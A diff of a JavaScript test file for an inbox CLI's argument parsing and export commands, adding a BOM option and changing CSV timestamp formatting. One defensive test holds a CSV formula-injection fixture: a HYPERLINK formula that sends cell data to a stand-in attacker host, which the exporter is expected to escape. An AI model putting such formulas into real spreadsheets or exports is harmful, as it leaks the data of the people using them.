@@ -14,8 +14,8 @@ describe('reading the arguments of npm run inbox', () => {
     [['list'], { name: 'list' }],
     [['show', '12'], { name: 'show', id: 12 }],
     [['retry', '3'], { name: 'retry', id: 3 }],
-    [['export', '--format', 'csv'], { name: 'export', format: 'csv' }],
-    [['export', '--format=json'], { name: 'export', format: 'json' }],
+    [['export', '--format', 'csv'], { name: 'export', format: 'csv', bom: false }],
+    [['export', '--format=json'], { name: 'export', format: 'json', bom: false }],
     [['help'], { name: 'help' }],
     [['--help'], { name: 'help' }],
   ])('%j is %j', (args, command) => {
@@ -172,9 +172,9 @@ describe('the inbox commands', () => {
 
   test('export --format csv quotes commas, quotes and line breaks as RFC 4180 asks', async () => {
     await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Lovelace, Ada', email: 'ada@example.org', message: 'She said "hello",\r\nthen left.' });
-    expect((await run({ name: 'export', format: 'csv' })).out).toBe(
+    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
       'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
-        '1,2026-05-01T08:00:00.000Z,"Lovelace, Ada",ada@example.org,"She said ""hello"",\r\nthen left.",pending,0,2026-05-01T08:00:00.000Z,,,\r\n',
+        '1,2026-05-01 08:00:00,"Lovelace, Ada",ada@example.org,"She said ""hello"",\r\nthen left.",pending,0,2026-05-01 08:00:00,,,\r\n',
     );
   });
 
@@ -185,15 +185,15 @@ describe('the inbox commands', () => {
       email: 'eve@example.org',
       message: '@SUM(1,2) then more',
     });
-    expect((await run({ name: 'export', format: 'csv' })).out).toBe(
+    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
       'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
-        `1,2026-05-01T08:00:00.000Z,"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")",eve@example.org,"'@SUM(1,2) then more",pending,0,2026-05-01T08:00:00.000Z,,,\r\n`,
+        `1,2026-05-01 08:00:00,"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")",eve@example.org,"'@SUM(1,2) then more",pending,0,2026-05-01 08:00:00,,,\r\n`,
     );
   });
 
   test('export --format json prints one JSON array with every field', async () => {
     await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
-    const { out, err, code } = await run({ name: 'export', format: 'json' });
+    const { out, err, code } = await run({ name: 'export', format: 'json', bom: false });
     expect({ code, err }).toEqual({ code: EXIT.ok, err: '' });
     expect(JSON.parse(out)).toEqual([
       {
@@ -213,8 +213,8 @@ describe('the inbox commands', () => {
   });
 
   test('export of an empty inbox is an empty array and a header row', async () => {
-    expect(JSON.parse((await run({ name: 'export', format: 'json' })).out)).toEqual([]);
-    expect((await run({ name: 'export', format: 'csv' })).out).toBe(
+    expect(JSON.parse((await run({ name: 'export', format: 'json', bom: false })).out)).toEqual([]);
+    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
       'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n',
     );
   });
